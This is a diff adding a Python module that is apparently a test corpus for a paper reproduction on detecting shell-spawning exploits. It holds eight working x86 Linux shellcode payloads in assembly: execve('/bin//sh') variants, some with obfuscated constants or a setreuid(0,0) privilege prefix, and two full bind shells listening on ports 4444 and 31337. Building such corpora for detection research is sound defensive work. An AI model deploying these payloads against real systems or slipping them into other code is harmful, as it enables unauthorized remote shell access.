@@ -1,0 +1,314 @@
+"""The shellcode corpus for the Table 1 experiment.
+
+Eight behaviourally-equivalent, syntactically-distinct Linux shell-spawning
+payloads, two of which bind the shell to a network port (the paper: "All
+eight exploits are successfully detected as spawning a shell, while the two
+that bind the shell to a different port are also noted as such").
+
+Each entry is written in a different idiom drawn from real published
+shellcode: different zero idioms, different ways to materialize the
+``execve`` syscall number and the ``/bin//sh`` string, push- vs
+store-built strings, setreuid prefixes, and arithmetic constant
+obfuscation.  The corpus is the reproduction's substitute for the eight
+public remote exploits the authors collected (see DESIGN.md).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..x86.asm import assemble
+
+__all__ = ["ShellcodeSpec", "SHELLCODES", "get_shellcode", "shellcode_names"]
+
+# "/bin" = 0x6e69622f, "//sh" = 0x68732f2f (little-endian dwords).
+_BIN = 0x6E69622F
+_SSH = 0x68732F2F
+
+# -- the eight payloads -------------------------------------------------------
+
+_CLASSIC = """
+    xor eax, eax
+    push eax
+    push 0x68732f2f
+    push 0x6e69622f
+    mov ebx, esp
+    push eax
+    push ebx
+    mov ecx, esp
+    xor edx, edx
+    mov al, 11
+    int 0x80
+"""
+
+_PUSH_POP = """
+    xor edx, edx
+    push edx
+    push 0x68732f2f
+    push 0x6e69622f
+    mov ebx, esp
+    push edx
+    mov ecx, esp
+    push 11
+    pop eax
+    int 0x80
+"""
+
+_STORE_BUILT = """
+    xor eax, eax
+    push eax
+    sub esp, 8
+    mov dword ptr [esp], 0x6e69622f
+    mov dword ptr [esp + 4], 0x68732f2f
+    mov ebx, esp
+    xor ecx, ecx
+    xor edx, edx
+    mov al, 11
+    int 0x80
+"""
+
+_SUB_ZERO = """
+    sub ecx, ecx
+    sub edx, edx
+    push ecx
+    push 0x68732f2f
+    push 0x6e69622f
+    mov ebx, esp
+    sub eax, eax
+    mov al, 11
+    int 0x80
+"""
+
+# 0x68732f2f = 0x34391717 + 0x343A1818 ; 0x6e69622f = 0x37343117 + 0x37353118
+_ARITH_CONST = """
+    xor eax, eax
+    push eax
+    mov edi, 0x34391717
+    add edi, 0x343a1818
+    push edi
+    mov edi, 0x37343117
+    add edi, 0x37353118
+    push edi
+    mov ebx, esp
+    xor ecx, ecx
+    xor edx, edx
+    mov al, 11
+    int 0x80
+"""
+
+_SETREUID = """
+    xor eax, eax
+    xor ebx, ebx
+    xor ecx, ecx
+    mov al, 70
+    int 0x80
+    xor eax, eax
+    push eax
+    push 0x68732f2f
+    push 0x6e69622f
+    mov ebx, esp
+    push eax
+    push ebx
+    mov ecx, esp
+    xor edx, edx
+    mov al, 11
+    int 0x80
+"""
+
+# sockaddr_in {AF_INET, port 4444 (0x115c, network order), INADDR_ANY}
+# packed little-endian dword: 02 00 11 5c -> 0x5c110002
+_BIND_4444 = """
+    ; socket(AF_INET, SOCK_STREAM, 0)
+    xor eax, eax
+    xor ebx, ebx
+    push eax
+    push 1
+    push 2
+    mov ecx, esp
+    inc ebx
+    mov al, 0x66
+    int 0x80
+    mov esi, eax
+
+    ; bind(fd, {AF_INET, 4444, 0.0.0.0}, 16)
+    xor eax, eax
+    push eax
+    push eax
+    push 0x5c110002
+    mov ecx, esp
+    push 16
+    push ecx
+    push esi
+    mov ecx, esp
+    xor ebx, ebx
+    mov bl, 2
+    mov al, 0x66
+    int 0x80
+
+    ; listen(fd, 1)
+    push 1
+    push esi
+    mov ecx, esp
+    xor eax, eax
+    mov bl, 4
+    mov al, 0x66
+    int 0x80
+
+    ; accept(fd, 0, 0)
+    xor eax, eax
+    push eax
+    push eax
+    push esi
+    mov ecx, esp
+    mov bl, 5
+    mov al, 0x66
+    int 0x80
+    mov ebx, eax
+
+    ; dup2(client, 2..0)
+    xor ecx, ecx
+    mov cl, 3
+dup_loop:
+    dec ecx
+    mov al, 63
+    int 0x80
+    jnz dup_loop
+
+    ; execve("/bin//sh", 0, 0)
+    xor eax, eax
+    push eax
+    push 0x68732f2f
+    push 0x6e69622f
+    mov ebx, esp
+    xor ecx, ecx
+    xor edx, edx
+    mov al, 11
+    int 0x80
+"""
+
+# Port 31337 (0x7a69): network order bytes 7a 69 -> dword 02 00 7a 69 ->
+# 0x697a0002.  Different register allocation and push/pop idioms.
+_BIND_31337 = """
+    ; socket
+    xor edx, edx
+    push edx
+    push 1
+    push 2
+    mov ecx, esp
+    xor ebx, ebx
+    inc ebx
+    push 0x66
+    pop eax
+    int 0x80
+    mov edi, eax
+
+    ; bind
+    push edx
+    push edx
+    push 0x697a0002
+    mov ecx, esp
+    push 16
+    push ecx
+    push edi
+    mov ecx, esp
+    push 2
+    pop ebx
+    push 0x66
+    pop eax
+    int 0x80
+
+    ; listen
+    push 1
+    push edi
+    mov ecx, esp
+    push 4
+    pop ebx
+    push 0x66
+    pop eax
+    int 0x80
+
+    ; accept
+    push edx
+    push edx
+    push edi
+    mov ecx, esp
+    push 5
+    pop ebx
+    push 0x66
+    pop eax
+    int 0x80
+    mov ebx, eax
+
+    ; dup2 x3
+    xor ecx, ecx
+    mov cl, 3
+dup_loop:
+    dec ecx
+    push 63
+    pop eax
+    int 0x80
+    jnz dup_loop
+
+    ; execve
+    xor eax, eax
+    push eax
+    push 0x68732f2f
+    push 0x6e69622f
+    mov ebx, esp
+    push eax
+    push ebx
+    mov ecx, esp
+    xor edx, edx
+    mov al, 11
+    int 0x80
+"""
+
+
+@dataclass(frozen=True)
+class ShellcodeSpec:
+    """Metadata for one corpus entry."""
+
+    name: str
+    source: str
+    binds_port: bool = False
+    port: int | None = None
+    description: str = ""
+
+    def assemble(self) -> bytes:
+        return assemble(self.source)
+
+
+SHELLCODES: dict[str, ShellcodeSpec] = {
+    spec.name: spec
+    for spec in [
+        ShellcodeSpec("classic-execve", _CLASSIC,
+                      description="push-built /bin//sh, xor zero idiom"),
+        ShellcodeSpec("push-pop-execve", _PUSH_POP,
+                      description="push/pop materialization of syscall number"),
+        ShellcodeSpec("store-built-execve", _STORE_BUILT,
+                      description="string built with explicit stack stores"),
+        ShellcodeSpec("sub-zero-execve", _SUB_ZERO,
+                      description="sub r,r zero idiom variant"),
+        ShellcodeSpec("arith-const-execve", _ARITH_CONST,
+                      description="string dwords obfuscated as sums"),
+        ShellcodeSpec("setreuid-execve", _SETREUID,
+                      description="setreuid(0,0) prefix before the spawn"),
+        ShellcodeSpec("bind-4444-execve", _BIND_4444, binds_port=True, port=4444,
+                      description="full bind shell on port 4444"),
+        ShellcodeSpec("bind-31337-execve", _BIND_31337, binds_port=True, port=31337,
+                      description="bind shell on 31337, push/pop idioms"),
+    ]
+}
+
+
+def get_shellcode(name: str) -> ShellcodeSpec:
+    try:
+        return SHELLCODES[name]
+    except KeyError:
+        raise KeyError(
+            f"unknown shellcode {name!r}; available: {sorted(SHELLCODES)}"
+        ) from None
+
+
+def shellcode_names() -> list[str]:
+    return list(SHELLCODES)
